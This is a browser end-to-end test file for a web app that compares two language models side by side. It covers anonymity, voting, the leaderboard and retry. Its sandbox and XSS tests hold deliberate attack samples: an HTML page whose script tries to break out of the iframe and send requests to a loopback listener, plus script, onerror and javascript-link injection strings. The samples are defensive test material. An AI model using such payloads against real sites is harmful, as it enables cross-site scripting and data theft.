"""End to end in headless Chromium against a real uvicorn server.

The chat and design battles use the REAL bundled model (SmolLM2-135M, answers capped at
48 tokens); the sandbox and XSS tests use scripted answers (attacks must be exact).
"""

# ruff: noqa: E501  (generated pages and scripts below are kept on one line each)

from __future__ import annotations

import http.server
import re
import sqlite3
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from webtools import screenshot

from modelarena.arena import Arena

pytestmark = pytest.mark.browser


def identity_strings(arena: Arena) -> set[str]:
    out: set[str] = set()
    for model_id in arena.contestants:
        info = arena.model_info(model_id)
        out |= {model_id, info.display_name}
        if info.entry:
            out |= {info.entry.id, info.entry.display_name, info.entry.lab}
    return {s.lower() for s in out if s}


RECORD_SSE = """
(() => {
  window.__sse = [];
  const add = EventSource.prototype.addEventListener;
  EventSource.prototype.addEventListener = function (type, fn, options) {
    return add.call(this, type, function (ev) {
      window.__sse.push(type + " " + ev.data);
      return fn.apply(this, arguments);
    }, options);
  };
})();
"""


class ResponseLog:
    """Every response the page receives (URL, headers, body), read back on demand, and every
    server-sent event its scripts receive (Chromium does not always keep stream bodies)."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.responses: list[Any] = []
        page.add_init_script(RECORD_SSE)
        page.on("response", lambda response: self.responses.append(response))

    def events(self) -> list[str]:
        return list(self.page.evaluate("() => window.__sse || []"))

    def texts(self) -> list[tuple[str, str]]:
        out = []
        for r in self.responses:
            try:
                body = r.body().decode("utf-8", "replace")
            except Exception:  # noqa: BLE001 - redirects and aborted requests have no body
                body = ""
            headers = "\n".join(f"{k}: {v}" for k, v in r.all_headers().items())
            out.append((r.url, headers + "\n" + body))
        return out


def assert_anonymous(log: ResponseLog, secret: set[str]) -> None:
    texts = log.texts()
    assert any(url.endswith("/stream") for url, _ in texts)
    events = log.events()
    assert any(e.startswith("side_done ") for e in events) and events[-1].startswith("done ")
    texts.append(("server-sent events", "\n".join(events)))
    for url, text in texts:
        lowered = text.lower()
        for word in secret:
            assert word not in lowered, (word, url)


def start_battle(page: Any, prompt: str, category: str = "chat") -> None:
    page.locator(f'.cat:has(input[value="{category}"])').click()
    page.fill("#prompt", prompt)
    page.click("#send-btn")
    page.wait_for_selector(".pane[data-side='a']")


def votes_in(db: Path) -> list[tuple[Any, ...]]:
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT verdict, counted FROM votes").fetchall()


# --------------------------------------------------------------------------- chat
@pytest.mark.llama
def test_chat_battle_with_the_bundled_model_vote_by_click(
    bundled_arena: Arena, live_server: Any, page: Any, chromium: Any, tmp_path: Path
) -> None:
    server = live_server(bundled_arena)
    secret = identity_strings(bundled_arena)
    board = page.context.new_page()
    board.goto(server.url + "/leaderboard")
    assert board.locator("#total-votes").inner_text() == "0"
    board.evaluate("window.__notReloaded = true")

    log = ResponseLog(page)
    page.goto(server.url + "/")
    start_battle(page, "Name three fruits.")
    # both panes stream at once and show their progress
    page.wait_for_function(
        "() => [...document.querySelectorAll('.pane .tok')].every(e => +e.textContent > 0)",
        timeout=60_000,
    )
    page.wait_for_selector("#votebar:not([hidden])", timeout=90_000)
    for side in "ab":
        pane = page.locator(f".pane[data-side='{side}']")
        assert pane.get_attribute("data-state") == "done"
        assert pane.locator(".answer").inner_text().strip()
        assert int(pane.locator(".tok").inner_text()) > 0
        assert float(pane.locator(".secs").inner_text()) > 0
        assert pane.locator(".pane-name").inner_text() == f"Model {side.upper()}"
    assert page.js_errors == []
    screenshot(page, "arena-chat.png")
    assert_anonymous(log, secret)  # nothing so far named a model, its lab or its id

    page.get_by_role("button", name="A is better").click()
    page.wait_for_selector("#result:not([hidden])")
    page.wait_for_timeout(400)  # let the reveal animation settle for the screenshot
    names = page.locator(".pane-name").all_inner_texts()
    assert all(n.startswith("SmolLM2-135M") for n in names) and names[0] != names[1]
    reveal = page.locator(".reveal-info").first.inner_text()
    assert "Hugging Face" in reveal and "Open weights" in reveal and "Apache-2.0" in reveal
    assert re.search(r"\d+ tokens · \d+\.\d s", reveal)
    assert "counts towards the leaderboard" in page.locator("#result-text").inner_text()
    screenshot(page, "arena-reveal.png")
    assert votes_in(tmp_path / "bundled.db") == [("a", 1)]

    # the open leaderboard updates by itself, without a reload
    board.wait_for_function(
        "() => document.getElementById('total-votes').textContent === '1'", timeout=15_000
    )
    assert board.evaluate("window.__notReloaded") is True
    assert board.locator("#board-body tr").count() == 2
    assert board.locator("#board-body tr").first.locator("td").nth(3).inner_text() == "1"

    page.click("#new-btn")
    assert page.locator("#composer").is_visible() and page.locator("#prompt").input_value() == ""


# ------------------------------------------------------------------------- design
@pytest.mark.llama
def test_design_battle_with_the_bundled_model_vote_by_key(
    bundled_arena: Arena, live_server: Any, page: Any, tmp_path: Path
) -> None:
    server = live_server(bundled_arena)
    secret = identity_strings(bundled_arena)
    log = ResponseLog(page)
    page.goto(server.url + "/")
    start_battle(page, "A red circle on a white background.", "svg")
    page.wait_for_selector("#votebar:not([hidden])", timeout=90_000)
    frames = page.locator("iframe.design-frame")
    assert frames.count() == 2
    for i in range(2):
        frame = frames.nth(i)
        assert frame.get_attribute("sandbox") == "allow-scripts"
        assert (frame.get_attribute("src") or "").startswith("/designs/")  # its own address
        inner = frame.element_handle().content_frame()
        assert inner is not None
        policy = inner.evaluate(
            "() => document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
        )
        assert "default-src 'none'" in policy and "connect-src 'none'" in policy
    box_a, box_b = frames.nth(0).bounding_box(), frames.nth(1).bounding_box()
    assert (
        box_a and box_b and (box_a["width"], box_a["height"]) == (box_b["width"], box_b["height"])
    )
    pane = page.locator(".pane[data-side='a']")
    pane.locator(".code-toggle").click()
    assert pane.locator("pre.code").is_visible() and not frames.nth(0).is_visible()
    pane.locator(".code-toggle").click()
    assert frames.nth(0).is_visible()
    pane.locator(".fullscreen").click()
    assert "fullscreen" in (pane.get_attribute("class") or "")
    full = frames.nth(0).bounding_box()
    assert full and full["width"] > box_a["width"]
    page.keyboard.press("Escape")
    assert "fullscreen" not in (pane.get_attribute("class") or "")
    assert_anonymous(log, secret)

    page.locator("body").click(position={"x": 5, "y": 5})  # focus out of any input
    page.keyboard.press("2")
    page.wait_for_selector("#result:not([hidden])")
    assert "B is better" in page.locator("#result-text").inner_text()
    assert page.locator(".pane[data-side='b']").get_attribute("data-winner") == "true"
    assert votes_in(tmp_path / "bundled.db") == [("b", 1)]
    page.goto(server.url + "/leaderboard?category=svg")
    assert page.locator("#total-votes").inner_text() == "1"
    assert page.locator("#board-body tr").count() == 2
    page.goto(server.url + "/leaderboard?category=chat")
    assert page.locator("#total-votes").inner_text() == "0"


# ------------------------------------------------------------------ sandbox / XSS
class Listener:
    """A loopback HTTP server that records every request it gets."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _hit(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"ok")

            do_GET = do_POST = do_PUT = _hit

            def log_message(self, *args: Any) -> None:
                pass

        self.hits = hits
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    x = Listener()
    yield x
    x.close()


def attack_page(target: str) -> str:
    return f"""Here you go:
```html
<!DOCTYPE html>
<html><head><meta name="description" content="innocent">
<link rel="stylesheet" href="{target}/css"><base href="{target}/base/"></head>
<body>
<h1 id="title">Innocent page</h1>
<img src="{target}/img-tag">
<form id="f" action="{target}/form" method="post"><input name="x" value="1"></form>
<a id="l" href="{target}/link" target="_top">x</a>
<script>
  var r = [];
  function attempt(name, fn) {{ try {{ fn(); r.push(name + ':ok'); }} catch (e) {{ r.push(name + ':' + e.name); }} }}
  attempt('parent', function () {{ window.parent.document.title = 'PWNED'; }});
  attempt('parentdom', function () {{ window.top.document.body.innerHTML = 'PWNED'; }});
  attempt('cookie', function () {{ document.cookie = 'evil=1; path=/'; }});
  attempt('storage', function () {{ localStorage.setItem('evil', '1'); }});
  attempt('fetch', function () {{ fetch('{target}/fetch').catch(function () {{}}); }});
  attempt('xhr', function () {{ var x = new XMLHttpRequest(); x.open('GET', '{target}/xhr'); x.send(); }});
  attempt('image', function () {{ new Image().src = '{target}/image'; }});
  attempt('beacon', function () {{ navigator.sendBeacon('{target}/beacon', 'x'); }});
  attempt('ws', function () {{ new WebSocket('{target.replace("http", "ws")}/ws'); }});
  attempt('popup', function () {{ window.open('{target}/popup'); }});
  attempt('form', function () {{ document.getElementById('f').submit(); }});
  attempt('link', function () {{ document.getElementById('l').click(); }});
  attempt('top', function () {{ window.top.location.href = '{target}/top'; }});
  attempt('meta', function () {{ var m = document.querySelector('meta[http-equiv]'); m.remove(); fetch('{target}/after-meta').catch(function () {{}}); }});
  document.body.setAttribute('data-ran', r.join(' '));
</script>
</body></html>
```"""


def test_design_answers_cannot_escape_the_sandbox(
    scripted: Any, live_server: Any, page: Any, listener: Listener
) -> None:
    evil = attack_page(listener.url)
    arena = scripted({"deepseek-v3": [evil], "gpt-4o": [evil]})
    server = live_server(arena)
    page.goto(server.url + "/")
    title = page.title()
    start_battle(page, "Make me a page", "website")
    page.wait_for_selector("#votebar:not([hidden])")
    frames = [f for f in page.frames if f != page.main_frame]
    assert len(frames) == 2
    for frame in frames:
        frame.wait_for_selector("body[data-ran]")
        ran = frame.locator("body").get_attribute("data-ran") or ""
        assert "parent:SecurityError" in ran and "parentdom:SecurityError" in ran
        assert "cookie:SecurityError" in ran  # opaque origin: no cookie jar at all
        assert "storage:SecurityError" in ran
        assert frame.evaluate("() => self.origin") == "null"  # an opaque origin
        # the design guard ran first: no WebRTC, no nested frame (a second realm)
        guarded = frame.evaluate(
            "() => [typeof RTCPeerConnection, (() => { try { document.createElement('iframe');"
            " return 'made'; } catch (e) { return e.name; } })()]"
        )
        assert guarded == ["undefined", "NotSupportedError"]
    page.wait_for_timeout(1500)  # give any request that slipped through time to land
    assert listener.hits == []
    assert page.title() == title
    assert page.url.split("#")[0] == server.url + "/"  # the top window was not navigated
    assert page.locator("header.topbar").count() == 1  # the page's body was not replaced
    assert page.locator("#votebar").is_visible()
    assert all(c["name"] != "evil" for c in page.context.cookies())
    assert len(page.context.pages) == 1  # no popup
    # the page's own session cookie is HttpOnly: even a script on the page could not read it
    assert page.evaluate("document.cookie") == ""
    policy = page.evaluate(
        "() => fetch(location.href).then(r => r.headers.get('content-security-policy'))"
    )
    assert "script-src 'self';" in policy  # the page itself runs no inline script


def test_chat_answers_with_markup_render_as_text(
    scripted: Any, live_server: Any, page: Any
) -> None:
    evil = (
        'Sure. <script>window.__xss = 1</script> <img src=x onerror="window.__xss = 2"> '
        "**bold** [x](javascript:window.__xss=3)"
    )
    arena = scripted({"deepseek-v3": [evil], "gpt-4o": [evil]})
    server = live_server(arena)
    page.goto(server.url + "/")
    start_battle(page, "Say something dangerous")
    page.wait_for_selector("#votebar:not([hidden])")
    answer = page.locator(".pane[data-side='a'] .answer")
    text = answer.inner_text()
    assert "<script>window.__xss = 1</script>" in text
    assert '<img src=x onerror="window.__xss = 2">' in text
    assert answer.locator("strong").inner_text() == "bold"
    assert answer.locator("script, img, [onerror]").count() == 0
    for link in answer.locator("a").all():
        link.click()
    page.wait_for_timeout(300)
    assert page.evaluate("window.__xss") is None
    assert page.js_errors == []


def test_model_failure_shows_a_message_and_a_retry(
    scripted: Any, live_server: Any, page: Any
) -> None:
    from modelarena.backends.base import BackendTimeout

    arena = scripted(
        {
            "deepseek-v3": ["Fine answer."],
            "gpt-4o": [BackendTimeout("gpt-4o timed out at api.openai.com"), "Now it works."],
        }
    )
    server = live_server(arena)
    page.goto(server.url + "/")
    start_battle(page, "Hello there")
    page.wait_for_selector("#failure:not([hidden])")
    message = page.locator("#failure").inner_text()
    assert "took too long" in page.locator(".battle").inner_text()
    assert "gpt-4o" not in message.lower() and "Traceback" not in message
    assert page.locator("#votebar").is_hidden()
    page.click("#retry-btn")
    page.wait_for_selector("#votebar:not([hidden])")
    assert page.locator(".turn-prompt-text").inner_text() == "Hello there"
    assert page.locator("#failure").is_hidden()


def test_follow_up_turn_in_the_browser(scripted: Any, live_server: Any, page: Any) -> None:
    arena = scripted({"deepseek-v3": ["One.", "Two."], "gpt-4o": ["Uno.", "Dos."]})
    server = live_server(arena)
    page.goto(server.url + "/")
    start_battle(page, "Count")
    page.wait_for_selector("#votebar:not([hidden])")
    page.fill("#followup-input", "Next number?")
    page.press("#followup-input", "Enter")
    page.wait_for_function("() => document.querySelectorAll('.turn').length === 2")
    page.wait_for_selector("#votebar:not([hidden])")
    turns = page.locator(".turn")
    assert turns.nth(1).locator(".turn-prompt-text").inner_text() == "Next number?"
    texts = turns.nth(1).locator(".answer").all_inner_texts()
    assert sorted(t.strip() for t in texts) == ["Dos.", "Two."]
    page.get_by_role("button", name="Tie").click()
    page.wait_for_selector("#result:not([hidden])")


def test_a_reload_resumes_the_battle(scripted: Any, live_server: Any, page: Any) -> None:
    arena = scripted(
        {"deepseek-v3": ["Slow answer " * 30], "gpt-4o": ["Other answer " * 30]}, delay_s=0.02
    )
    server = live_server(arena)
    page.goto(server.url + "/")
    start_battle(page, "Take your time")
    page.wait_for_function("() => +document.querySelector('.pane .tok').textContent > 3")
    assert re.search(r"#b=[0-9a-f]{24}$", page.url)
    page.reload()  # mid-stream
    page.wait_for_selector("#votebar:not([hidden])")
    assert page.locator(".turn").count() == 1
    assert page.locator(".turn-prompt-text").inner_text() == "Take your time"
    assert "Slow answer" in page.locator(".turns, #turns").inner_text()
    page.reload()  # complete, not voted: the vote is still offered
    page.wait_for_selector("#votebar:not([hidden])")
    page.keyboard.press("4")
    page.wait_for_selector("#result:not([hidden])")
    assert "Both are bad" in page.locator("#result-text").inner_text()
    page.reload()  # voted: the reveal is shown again, no vote offered
    page.wait_for_selector("#result:not([hidden])")
    assert page.locator("#votebar").is_hidden()
    assert page.locator(".pane-name").first.inner_text() in ("DeepSeek-V3", "GPT-4o")
    page.click("#new-btn")
    assert "#b=" not in page.url
